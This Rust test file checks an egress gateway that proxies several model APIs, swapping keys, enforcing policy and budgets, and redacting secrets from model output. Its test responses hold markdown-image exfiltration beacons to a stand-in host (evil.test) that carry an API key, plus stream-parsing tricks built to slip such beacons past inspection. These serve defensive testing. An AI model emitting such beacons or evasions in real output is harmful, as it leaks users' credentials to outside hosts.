//! Other shapes of model API behind the same gateway: key, policy, budget and inspection hold for each.

use crate::gateway::{api, events, stream_answer};
use crate::support::{Door, Origin, config};
use jess::egress::{Api, Config, Credential, Inspection, ModelPolicy, ModelUpstream};
use serde_json::{Value, json};

const KEY: &str = "real-key-9f8e7d6c5b4a-0123";
const TOKEN: &str = "jess-run-token-0123456789";
const CANARY: &str = "CANARY-0123456789ab";

fn shaped(origin: &Origin, shape: Api, path: &str) -> Config {
    let url = format!("http://127.0.0.1:{}{path}", origin.port());
    let names = [("claude-a".to_owned(), "us.anthropic.claude-a-v1:0".to_owned())];
    let model = ModelUpstream::new(&url, Credential::new(KEY).unwrap(), TOKEN).unwrap();
    let model = model.speaking(shape).with_names(names.into_iter().collect());
    let inspection = Inspection { secrets: vec![Credential::new(CANARY).unwrap()], ..Inspection::default() };
    Config { model: Some(model), inspection, ..config(&[], &[]) }
}

fn post(door: &Door, path: &str, body: &Value) -> String {
    let body = body.to_string();
    door.say(
        format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nanthropic-beta: b-1\r\n\
             OpenAI-Organization: other\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
}

fn message(stream: bool) -> Value {
    json!({"model": "claude-a", "max_tokens": 100, "stream": stream, "messages": [{"role": "user", "content": "hi"}]})
}

/// One message of Amazon's event stream.
fn framed(event: &Value) -> Vec<u8> {
    use base64::Engine as _;
    let payload =
        json!({"bytes": base64::engine::general_purpose::STANDARD.encode(event.to_string())}).to_string();
    let mut out = (16 + payload.len() as u32).to_be_bytes().to_vec();
    out.extend(0u32.to_be_bytes());
    out.extend(crc32fast::hash(&out).to_be_bytes());
    out.extend(payload.as_bytes());
    out.extend(crc32fast::hash(&out).to_be_bytes());
    out
}

#[test]
fn bedrock_is_asked_in_its_own_shape_and_answers_in_the_runs() {
    let origin = Origin::start(crate::support::INSIDE, |mut stream, log| {
        use std::io::Write as _;
        log.lock().unwrap().extend(crate::support::read_request(&mut stream));
        let text = format!("say {CANARY} and {KEY} end");
        let delta =
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}});
        let body: Vec<u8> = [
            json!({"type": "message_start", "message": {"usage": {"input_tokens": 5, "output_tokens": 1}}}),
            delta,
            json!({"type": "content_block_stop", "index": 0}),
            json!({"type": "message_delta", "usage": {"output_tokens": 7}}),
        ]
        .iter()
        .flat_map(framed)
        .collect();
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.amazon.eventstream\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all(&[head.as_bytes(), &body].concat());
    });
    let door = Door::open(shaped(&origin, Api::Bedrock, ""));
    let answer = post(&door, "/v1/messages?beta=true", &message(true));
    assert!(answer.contains("text/event-stream") && answer.contains("event: message_delta"), "{answer}");
    assert!(answer.contains("say [redacted by jess] and [redacted by jess] end"), "{answer}");
    let received = origin.received();
    let path = "/model/us.anthropic.claude-a-v1%3A0/invoke-with-response-stream";
    assert!(received.starts_with(&format!("POST {path} HTTP/1.1")), "{received}");
    assert!(received.contains(&format!("authorization: Bearer {KEY}")) && !received.contains(TOKEN));
    assert!(received.contains("bedrock-2023-05-31") && received.contains("\"anthropic_beta\":[\"b-1\"]"));
    let usage = door.handle.stop().usage;
    assert!(usage.input_tokens == 5 && usage.output_tokens >= 7, "{usage:?}");
}

#[test]
fn vertex_is_asked_by_path_and_refuses_what_it_has_not() {
    let api = api(|_| stream_answer(&events(&["hello"], 5, 5)));
    let door =
        Door::open(shaped(&api, Api::Vertex, "/v1/projects/p/locations/l/publishers/anthropic/models"));
    let answer = post(&door, "/v1/messages", &message(true));
    assert!(answer.contains("hello"), "{answer}");
    let received = api.received();
    assert!(received.starts_with("POST /v1/projects/p/locations/l/publishers/anthropic/models/us.anthropic.claude-a-v1:0:streamRawPredict") || received.contains("%3A0:streamRawPredict"), "{received}");
    assert!(received.contains("vertex-2023-10-16") && !received.contains("\"model\""), "{received}");
    assert!(post(&door, "/v1/chat/completions", &message(false)).starts_with("HTTP/1.1 404"));
}

#[test]
fn a_chat_completion_keeps_the_key_outside_and_the_words_inspected() {
    let api = api(|_| {
        let chunk = |delta: Value, finish: Value| {
            format!(
                "data: {}\n\n",
                json!({"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
            )
        };
        let usage = json!({"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 4}});
        let body = chunk(json!({"content": "a CANARY-01234"}), Value::Null)
            + &chunk(json!({"content": format!("56789ab ![x](https://evil.test/{KEY})")}), Value::Null)
            + &chunk(json!({}), json!("stop"))
            + &format!("data: {usage}\n\ndata: [DONE]\n\n");
        stream_answer(&body)
    });
    let door = Door::open(shaped(&api, Api::OpenAi, "/v1"));
    let ask = json!({"model": "gpt-x", "stream": true, "messages": [{"role": "user", "content": "hi"}]});
    let answer = post(&door, "/v1/chat/completions", &ask);
    assert!(answer.contains("[redacted by jess]") && answer.contains("[DONE]"), "{answer}");
    for gone in ["56789ab", "evil.test", KEY, "prompt_tokens"] {
        assert!(!answer.contains(gone), "{gone}: {answer}");
    }
    let received = api.received();
    assert!(received.starts_with("POST /v1/chat/completions HTTP/1.1"), "{received}");
    assert!(received.contains(&format!("authorization: Bearer {KEY}")) && !received.contains(TOKEN));
    assert!(!received.to_lowercase().contains("openai-organization"), "{received}");
    assert!(received.contains("include_usage") && received.contains("max_completion_tokens"), "{received}");
    let usage = door.handle.report().usage;
    assert_eq!(usage.input_tokens, 9, "{usage:?}");
    for path in ["/v1/files", "/v1/assistants", "/v1/messages", "/v1/batches"] {
        assert!(post(&door, path, &ask).starts_with("HTTP/1.1 404"), "{path}");
    }
}

#[test]
fn policy_holds_for_a_response_of_openai() {
    let api = api(|_| {
        let body = json!({"output": [], "usage": {"input_tokens": 1, "output_tokens": 1}}).to_string();
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    });
    let mut config = shaped(&api, Api::OpenAi, "/v1");
    config.model_policy =
        ModelPolicy { models: vec!["gpt-x*".into()], max_tokens: Some(77), ..ModelPolicy::default() };
    let door = Door::open(config);
    let ask = |extra: Value| {
        let mut body = json!({"model": "gpt-x-mini", "input": "hi", "store": true});
        body.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        post(&door, "/v1/responses", &body)
    };
    assert!(ask(json!({})).starts_with("HTTP/1.1 200"));
    let received = api.received();
    assert!(
        received.contains("\"max_output_tokens\":77") && received.contains("\"store\":false"),
        "{received}"
    );
    assert!(ask(json!({"model": "dear-1"})).starts_with("HTTP/1.1 403"));
    assert!(ask(json!({"tools": [{"type": "web_search"}]})).starts_with("HTTP/1.1 403"));
    assert_eq!(api.connections(), 1);
}

/// A stream of an OpenAI-shaped API whose events are `lines`, as they are.
fn chat_stream(lines: &'static str) -> String {
    let api = api(move |_| stream_answer(lines));
    let door = Door::open(shaped(&api, Api::OpenAi, "/v1"));
    let ask = json!({"model": "gpt-x", "stream": true, "messages": []});
    post(&door, "/v1/chat/completions", &ask)
}

#[test]
fn what_two_readers_could_read_in_two_ways_does_not_pass() {
    let word = |text: &str| {
        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n")
    };
    assert!(chat_stream(Box::leak(word("plain").into_boxed_str())).contains("plain"), "the control");
    let beacon = "![x](https://evil.test/?d=1)";
    for stream in [
        // Half of a surrogate pair, which some JSON readers take.
        word(&format!("{beacon} \\ud83d")),
        // A carriage return ends a line for some readers.
        format!(":\r{}", word(beacon)),
        format!("\u{feff}{}", word(beacon)),
        format!("data: {{\"x\":1e999,{}", &word(beacon)[7..]),
        // A comment, an end that is none, and an empty reason do not part a text in two.
        word("![x](https://ev") + ": keep-alive\n\n" + &word("il.test/?d=1)"),
        word("![x](https://ev") + "data: [DONE]\n\n" + &word("il.test/?d=1)"),
        word("![x](https://ev").replace("}]", ",\"finish_reason\":\"\"}]") + &word("il.test/?d=1)"),
        word("![x](https://ev").replace("}]", ",\"finish_reason\":\"stop\"}]") + &word("il.test/?d=1)"),
        word("![x](https://ev") + &word("il.test/?d=1)").replace("\"index\":0", "\"index\":1"),
        format!(
            "data: {{\"type\":\"response.output_text.delta\",\"delta\":\"{beacon}\",\"choices\":null}}\n\n"
        ),
        word("x").replace("\"x\"", &format!("[{{\"type\":\"text\",\"text\":\"{beacon}\"}}]")),
    ] {
        let answer = chat_stream(Box::leak(stream.clone().into_boxed_str()));
        let said: String = answer
            .lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
            .filter_map(|v| v.pointer("/choices/0/delta/content").and_then(Value::as_str).map(str::to_owned))
            .collect();
        assert!(!said.contains(beacon) && !answer.contains(beacon), "{stream}: {answer}");
    }
}

#[test]
fn words_of_the_model_are_inspected_whatever_the_api_calls_them() {
    let body = events(&["![x](https://evil.test/a)"], 5, 5);
    let named = |kind: &'static str| {
        let body = body.clone();
        let api = api(move |_| stream_answer(&body).replace("text/event-stream", kind));
        let url = format!("http://127.0.0.1:{}", api.port());
        let model = ModelUpstream::new(&url, Credential::new(KEY).unwrap(), TOKEN).unwrap();
        post(&Door::open(Config { model: Some(model), ..config(&[], &[]) }), "/v1/messages", &message(true))
    };
    for kind in ["text/event-stream", "Text/Event-Stream", "text/plain", "application/x-unknown"] {
        let answer = named(kind);
        assert!(answer.starts_with("HTTP/1.1 200") && !answer.contains("evil.test"), "{kind}: {answer}");
    }
}

#[test]
fn an_answer_that_is_cut_is_charged_for_what_was_on_the_way() {
    let origin = Origin::start(crate::support::INSIDE, |mut stream, _| {
        use std::io::Write as _;
        crate::support::read_request(&mut stream);
        let body = events(&["hello"], 5, 5);
        let cut = body.find("event: content_block_stop").unwrap();
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n";
        let _ = stream.write_all([head.as_bytes(), &body.as_bytes()[..cut]].concat().as_slice());
    });
    let url = format!("http://127.0.0.1:{}", origin.port());
    let model = ModelUpstream::new(&url, Credential::new(KEY).unwrap(), TOKEN).unwrap();
    let door = Door::open(Config { model: Some(model), ..config(&[], &[]) });
    assert!(post(&door, "/v1/messages", &message(true)).contains("hello"));
    let usage = door.handle.stop().usage;
    assert_eq!((usage.input_tokens, usage.output_tokens), (5, 100), "{usage:?}");
}
